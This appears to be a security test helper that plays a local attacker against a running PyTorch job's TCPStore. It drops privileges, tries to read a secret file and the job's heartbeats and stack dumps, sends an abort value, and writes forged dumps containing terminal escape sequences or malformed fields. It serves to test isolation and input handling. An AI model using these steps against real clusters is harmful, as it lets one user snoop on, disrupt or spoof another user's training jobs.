"""Another local user against a running job's store: `store_attacker.py UID GID PORT JOBDIR ACTION`.

Started as root only to import torch (the test's python lives where other users cannot read), it drops to
UID/GID before it touches anything of the job; then it does what anyone who can reach the port can do.
Prints one JSON line: what it could read.
"""
import datetime
import json
import os
import sys
import time

import torch.distributed as dist

uid, gid, port, jobdir, action = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5]
os.setgroups([])
os.setgid(gid)
os.setuid(uid)
P = "clusterdoc/hang//"  # torch's PrefixStore joins with a "/"
ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31mFORGED"
out = {"uid": os.getuid()}
try:
    with open(os.path.join(jobdir, "secret")) as f:
        out["secret"] = f.read()
except OSError as exc:
    out["secret"] = f"denied: {exc.strerror}"


class Store:
    """A torch client; an op the server refuses (add on a sealed value) closes the connection: reconnect."""

    def __init__(self):
        self.s = None

    def do(self, op, *args):
        try:
            if self.s is None:
                self.s = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False,
                                       timeout=datetime.timedelta(seconds=3))
            return getattr(self.s, op)(*args)
        except Exception as exc:  # noqa: BLE001
            self.s = None
            return f"error: {exc}"

    def read(self, key):
        if self.do("check", [P + key]) is not True:
            return None
        value = self.do("get", P + key)
        return value.decode("latin-1") if isinstance(value, bytes) else value


s = Store()
if action == "read_then_abort":
    out["hb"] = [s.read("hb/0"), s.read("hb/1")]
    gen = s.do("add", P + "ctl", 1)  # ask every rank for its stacks
    time.sleep(4)
    out["dumps"] = [s.read(f"dump/{g}/{r}") for g in range(1, 4) for r in range(2)]
    out["abort"] = s.do("add", P + "ctl", 1 << 40)
elif action in ("forged_stall", "malformed_dump"):
    if action == "forged_stall":
        dump = {"host": ESC, "pid": 1, "time": time.time(), "collectives": [],
                "frames": [{"file": ESC, "line": 1, "func": ESC, "code": ESC, "user": True}], "stacks": ESC}
    else:
        dump = {"host": "x", "collectives": 5, "frames": {"no": "list"}, "time": "soon"}
    for r in range(2):
        s.do("set", P + f"dump/7/{r}", json.dumps({**dump, "rank": r}))
    s.do("set", P + "stall/info", json.dumps({"rank": 0, "gen": 7}))
    out["stall"] = s.do("add", P + "stall", 1)
print(json.dumps(out), flush=True)
